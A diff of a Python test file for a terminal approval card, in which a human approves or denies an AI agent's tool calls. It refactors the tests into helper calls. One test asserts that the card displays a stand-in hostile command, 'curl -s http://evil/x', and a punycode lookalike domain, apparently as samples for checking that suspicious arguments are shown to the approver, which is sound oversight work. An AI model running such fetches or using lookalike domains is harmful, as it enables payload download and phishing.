@@ -27,8 +27,7 @@ async def asks(turn: ScriptedTurn) -> None:
 
 
 async def carded(chat: Chat) -> None:
-    await chat.type("go")
-    await chat.terminal.shows(KEYS)
+    await chat.type("go", KEYS)
 
 
 async def test_a_card_shows_the_exact_call() -> None:
@@ -51,8 +50,7 @@ async def test_a_card_shows_the_exact_call() -> None:
 async def test_y_approves_once() -> None:
     async with chatting({"go": asks}) as chat:
         await carded(chat)
-        chat.terminal.press("y")
-        await chat.terminal.shows("▌ Approved.", "✓ notes.add_note  Added note 3", "Done with it.")
+        await chat.press("y", "▌ Approved.", "✓ notes.add_note  Added note 3", "Done with it.")
         await chat.terminal.prompts()
         (decision,) = chat.engine.decisions
         assert (decision.approval_id, decision.revision, decision.type) == ("apr-12345678", 1, DecisionType.APPROVE)
@@ -62,8 +60,7 @@ async def test_y_approves_once() -> None:
 async def test_enter_denies() -> None:
     async with chatting({"go": asks}) as chat:
         await carded(chat)
-        chat.terminal.press("\r")
-        await chat.terminal.shows("▌ Not run.", "⊘ notes.add_note  denied  by ana", "Done with it.")
+        await chat.press("\r", "▌ Not run.", "⊘ notes.add_note  denied  by ana", "Done with it.")
         (decision,) = chat.engine.decisions
         assert (decision.type, decision.reason) == (DecisionType.DENY, "")
 
@@ -71,10 +68,8 @@ async def test_enter_denies() -> None:
 async def test_n_denies_with_a_reason_for_the_agent() -> None:
     async with chatting({"go": asks}) as chat:
         await carded(chat)
-        chat.terminal.press("n")
-        await chat.terminal.shows("reason (optional):")
-        chat.terminal.press("use INC\r")
-        await chat.terminal.shows("▌ Not run. Told the agent: use INC", "denied  by ana: use INC")
+        await chat.press("n", "reason (optional):")
+        await chat.press("use INC\r", "▌ Not run. Told the agent: use INC", "denied  by ana: use INC")
         (decision,) = chat.engine.decisions
         assert (decision.type, decision.reason) == (DecisionType.DENY, "use INC")
 
@@ -91,12 +86,10 @@ async def test_v_shows_all_of_a_long_argument_page_by_page() -> None:
         assert "v to view all)" in chat.terminal.text
         assert "line 39" not in chat.terminal.text
         for page in ("line 10", "line 30", "line 39"):
-            chat.terminal.press("v")
-            await chat.terminal.shows(page)
+            await chat.press("v", page)
             await chat.terminal.until(lambda: chat.terminal.lines[-1].endswith(KEYS), "the keys")
             await asyncio.sleep(ONE_KEY_PAUSE)
-        chat.terminal.press("y")
-        await chat.terminal.shows("Approved.")
+        await chat.press("y", "Approved.")
 
 
 async def test_a_likely_secret_is_read_to_its_end_before_a_key_approves_it() -> None:
@@ -107,19 +100,15 @@ async def test_a_likely_secret_is_read_to_its_end_before_a_key_approves_it() -> 
         await turn.end("ok")
 
     async with chatting({"go": script}) as chat:
-        await chat.type("go")
-        await chat.terminal.shows("[v] view all to approve")
-        chat.terminal.press("y")
-        await chat.terminal.shows("View all of it before you approve it.")
+        await chat.type("go", "[v] view all to approve")
+        await chat.press("y", "View all of it before you approve it.")
         assert chat.engine.decisions == []
         for page in ("line 10", "line 30", "line 39"):
             await asyncio.sleep(ONE_KEY_PAUSE)
-            chat.terminal.press("v")
-            await chat.terminal.shows(page)
+            await chat.press("v", page)
         await chat.terminal.shows("[y] once")
         await asyncio.sleep(ONE_KEY_PAUSE)
-        chat.terminal.press("y")
-        await chat.terminal.shows("Approved.")
+        await chat.press("y", "Approved.")
         assert chat.engine.views_opened == [("apr-12345678", 1, WHOLE)]
 
 
@@ -135,24 +124,21 @@ async def test_a_short_call_is_shown_whole_and_approved_at_once() -> None:
         assert "curl -s http://evil/x" in chat.terminal.text
         assert "⚠ The name: ends with 1 blank." in chat.terminal.text
         assert "xn--ggle-55da.com" in chat.terminal.text
-        chat.terminal.press("y")
-        await chat.terminal.shows("Approved.")
+        await chat.press("y", "Approved.")
         assert chat.engine.views_opened == [("apr-12345678", 1, WHOLE)]
 
 
 async def test_any_other_key_decides_nothing() -> None:
     async with chatting({"go": asks}) as chat:
         await carded(chat)
-        chat.terminal.press("x")
-        await chat.terminal.shows("One key: y, t, g, e, n, or Enter for no.")
+        await chat.press("x", "One key: y, t, g, e, n, or Enter for no.")
         assert chat.engine.decisions == []
 
 
 async def test_a_word_that_is_pasted_approves_nothing() -> None:
     async with chatting({"go": asks}) as chat:
         await carded(chat)
-        chat.terminal.press("yyyy")
-        await chat.terminal.shows("One key:")
+        await chat.press("yyyy", "One key:")
         assert chat.engine.decisions == []
 
 
@@ -165,8 +151,7 @@ async def test_typing_on_when_a_card_appears_approves_nothing() -> None:
         await asks(turn)
 
     async with chatting({"go": script}, quiet_seconds=60.0) as chat:
-        await chat.type("go")
-        await chat.terminal.shows("Thinking…")
+        await chat.type("go", "Thinking…")
         chat.terminal.press("wh")
         await chat.terminal.prompts("wh")
         go_on.set()
@@ -188,24 +173,20 @@ async def test_a_key_pressed_the_moment_a_card_appears_is_no_answer_to_it() -> N
 
 async def test_keys_are_taken_once_the_keyboard_was_still_for_a_moment() -> None:
     async with chatting({"go": asks}, quiet_seconds=0.2) as chat:
-        await chat.type("go")
-        await chat.terminal.shows("Add note “Buy milk” (notes)?")
+        await chat.type("go", "Add note “Buy milk” (notes)?")
         assert KEYS not in chat.terminal.text
         await chat.terminal.shows(KEYS)
-        chat.terminal.press("y")
-        await chat.terminal.shows("Approved.")
+        await chat.press("y", "Approved.")
 
 
 async def test_escape_leads_from_the_reason_back_to_the_keys() -> None:
     async with chatting({"go": asks}) as chat:
         await carded(chat)
-        chat.terminal.press("n")
-        await chat.terminal.shows("reason (optional):")
+        await chat.press("n", "reason (optional):")
         chat.terminal.press("hm\x1b")
         await chat.terminal.hides("reason (optional):")
         await chat.terminal.shows(KEYS)
-        chat.terminal.press("y")
-        await chat.terminal.shows("Approved.")
+        await chat.press("y", "Approved.")
 
 
 async def test_news_of_a_sibling_does_not_interrupt_the_reason() -> None:
@@ -223,24 +204,19 @@ async def test_news_of_a_sibling_does_not_interrupt_the_reason() -> None:
 
     async with chatting({"go": script}) as chat:
         await carded(chat)
-        chat.terminal.press("n")
-        await chat.terminal.shows("reason (optional):")
-        chat.terminal.press("not")
-        await chat.terminal.shows("reason (optional): not")
+        await chat.press("n", "reason (optional):")
+        await chat.press("not", "reason (optional): not")
         news.set()
         await chat.terminal.shows("half of it")
-        chat.terminal.press(" now\r")
-        await chat.terminal.shows("Told the agent: not now")
+        await chat.press(" now\r", "Told the agent: not now")
 
 
 async def test_the_hint_goes_with_the_next_key() -> None:
     async with chatting({"go": asks}) as chat:
         await carded(chat)
-        chat.terminal.press("x")
-        await chat.terminal.shows("One key:")
+        await chat.press("x", "One key:")
         await asyncio.sleep(ONE_KEY_PAUSE)
-        chat.terminal.press("n")
-        await chat.terminal.shows("reason (optional):")
+        await chat.press("n", "reason (optional):")
         await chat.terminal.hides("One key:")
 
 
@@ -262,8 +238,7 @@ async def test_ctrl_c_while_a_decision_is_on_its_way_asks_nothing_more() -> None
     async with chatting({"go": script}) as chat:
         chat.engine.deciding.clear()
         chat.engine.stopping.clear()
-        await chat.type("go")
-        await chat.terminal.shows(f"{KEYS}  (1 of 2)")
+        await chat.type("go", f"{KEYS}  (1 of 2)")
         chat.terminal.press("y")
         await chat.terminal.until(lambda: bool(chat.engine.decisions), "the decision")
         chat.terminal.press("\x03")
@@ -273,8 +248,7 @@ async def test_ctrl_c_while_a_decision_is_on_its_way_asks_nothing_more() -> None
         chat.engine.stopping.set()
         await chat.terminal.shows("Stopped.")
         assert "Buy bread" not in chat.terminal.text
-        await chat.type("still there?")
-        await chat.terminal.shows("You said: still there?")
+        await chat.type("still there?", "You said: still there?")
 
 
 async def test_a_call_without_arguments_says_so() -> None:
@@ -285,8 +259,7 @@ async def test_a_call_without_arguments_says_so() -> None:
     async with chatting({"go": script}) as chat:
         await carded(chat)
         await chat.terminal.shows("▌ This call has no arguments.")
-        chat.terminal.press("v")
-        await chat.terminal.shows("One key: y, t, g, e, n, or Enter for no.")
+        await chat.press("v", "One key: y, t, g, e, n, or Enter for no.")
 
 
 async def test_typed_text_is_back_after_the_card() -> None:
@@ -298,15 +271,13 @@ async def test_typed_text_is_back_after_the_card() -> None:
         await asks(turn)
 
     async with chatting({"go": script}) as chat:
-        await chat.type("go")
-        await chat.terminal.shows("Thinking…")
+        await chat.type("go", "Thinking…")
         chat.terminal.press("next idea")
         await chat.terminal.prompts("next idea")
         go_on.set()
         await chat.terminal.shows(KEYS)
         await asyncio.sleep(ONE_KEY_PAUSE)
-        chat.terminal.press("y")
-        await chat.terminal.shows("Done with it.")
+        await chat.press("y", "Done with it.")
         await chat.terminal.prompts("next idea")
 
 
@@ -324,16 +295,13 @@ async def test_two_cards_are_asked_one_after_the_other_while_a_sibling_runs() ->
         await turn.end("Both done.")
 
     async with chatting({"go": script}) as chat:
-        await chat.type("go")
-        await chat.terminal.shows(f"{KEYS}  (1 of 2)", "◌ weather.forecast")
+        await chat.type("go", f"{KEYS}  (1 of 2)", "◌ weather.forecast")
         assert "Buy bread" not in chat.terminal.text
         sibling.set()
         await chat.terminal.shows("✓ weather.forecast  Sunny")
-        chat.terminal.press("y")
-        await chat.terminal.shows("Buy bread", f"{KEYS}  (2 of 2)")
+        await chat.press("y", "Buy bread", f"{KEYS}  (2 of 2)")
         await asyncio.sleep(ONE_KEY_PAUSE)
-        chat.terminal.press("\r")
-        await chat.terminal.shows("Both done.")
+        await chat.press("\r", "Both done.")
         verdicts = {decision.approval_id: decision.type for decision in chat.engine.decisions}
         assert verdicts == {"one": DecisionType.APPROVE, "two": DecisionType.DENY}
 
@@ -363,16 +331,14 @@ async def test_a_decision_elsewhere_ends_the_card() -> None:
     async with chatting({"go": asks}) as chat:
         chat.engine.answers = [AlreadyDecided("Already approved by Sam at 14:12.")]
         await carded(chat)
-        chat.terminal.press("y")
-        await chat.terminal.shows("▌ Already approved by Sam at 14:12.")
+        await chat.press("y", "▌ Already approved by Sam at 14:12.")
 
 
 async def test_an_approver_among_several_reads_how_many_are_missing_and_is_not_asked_again() -> None:
     async with chatting({"go": asks}) as chat:
         chat.engine.answers = [MoreApprovalsNeeded(1)]
         await carded(chat)
-        chat.terminal.press("y")
-        await chat.terminal.shows("▌ Approved. 1 more approval is needed.")
+        await chat.press("y", "▌ Approved. 1 more approval is needed.")
         assert len(chat.engine.decisions) == 1
 
 
@@ -380,10 +346,8 @@ async def test_a_user_who_may_not_decide_reads_who_may_and_the_card_waits_on() -
     async with chatting({"go": asks}) as chat:
         chat.engine.answers = [NotAllowed("notes.add_note needs an approver from ops.")]
         await carded(chat)
-        chat.terminal.press("y")
-        await chat.terminal.shows("needs an approver from ops.", "Waiting for an approver.", KEYS)
-        chat.terminal.press("\x03")
-        await chat.terminal.shows("Stopped.")
+        await chat.press("y", "needs an approver from ops.", "Waiting for an approver.", KEYS)
+        await chat.press("\x03", "Stopped.")
 
 
 async def test_a_card_that_is_out_of_date_is_replaced_by_the_newer_one() -> None:
@@ -400,21 +364,18 @@ async def test_a_card_that_is_out_of_date_is_replaced_by_the_newer_one() -> None
     async with chatting({"go": script}) as chat:
         chat.engine.answers = [StaleRevision()]
         await carded(chat)
-        chat.terminal.press("y")
-        await chat.terminal.shows("The call has changed since this card was drawn.")
+        await chat.press("y", "The call has changed since this card was drawn.")
         changed.set()
         await chat.terminal.shows(KEYS)
         await asyncio.sleep(ONE_KEY_PAUSE)
-        chat.terminal.press("y")
-        await chat.terminal.shows("Approved.")
+        await chat.press("y", "Approved.")
         assert [decision.revision for decision in chat.engine.decisions] == [1, 2]
 
 
 async def test_ctrl_c_on_a_card_stops_the_turn() -> None:
     async with chatting({"go": asks}) as chat:
         await carded(chat)
-        chat.terminal.press("\x03")
-        await chat.terminal.shows("Stopped.")
+        await chat.press("\x03", "Stopped.")
         await chat.terminal.prompts()
         assert chat.engine.decisions == []
 
@@ -424,8 +385,7 @@ async def test_a_card_left_by_an_earlier_process_is_asked_again() -> None:
     left = TurnView(turn, (a_call(0, StepStatus.AWAITING, approval=an_approval()),), 1)
     async with chatting(opening=now(StartState("c1", (left,)))) as chat:
         await chat.terminal.shows(echoed("left behind"), KEYS)
-        chat.terminal.press("y")
-        await chat.terminal.shows("Approved.")
+        await chat.press("y", "Approved.")
         assert chat.engine.decisions[0].approval_id == "apr-12345678"
 
 
@@ -437,8 +397,7 @@ async def test_a_card_of_another_conversation_is_asked_here() -> None:
         async for _drawn in chat.engine.surface.deliver(view, {}):
             pass
         await chat.terminal.shows("While you were away (conversation c0): file it", KEYS)
-        chat.terminal.press("y")
-        await chat.terminal.shows("Approved.")
+        await chat.press("y", "Approved.")
         ended = TurnView(dataclasses.replace(turn, status=TurnStatus.DONE), (a_call(0, StepStatus.DONE, "ok"),), 2)
         async for _drawn in chat.engine.surface.deliver(ended, {}):
             pass
@@ -453,8 +412,6 @@ async def test_a_rule_given_with_approve_decides_without_a_key() -> None:
         await asks(turn)
 
     async with chatting({"go": script}, approve=ApproveMode.READS) as chat:
-        await chat.type("go")
-        await chat.terminal.shows("notes.list_notes approved by --approve reads.", KEYS)
+        await chat.type("go", "notes.list_notes approved by --approve reads.", KEYS)
         assert [decision.approval_id for decision in chat.engine.decisions] == ["reads"]
-        chat.terminal.press("\r")
-        await chat.terminal.shows("Done with it.")
+        await chat.press("\r", "Done with it.")
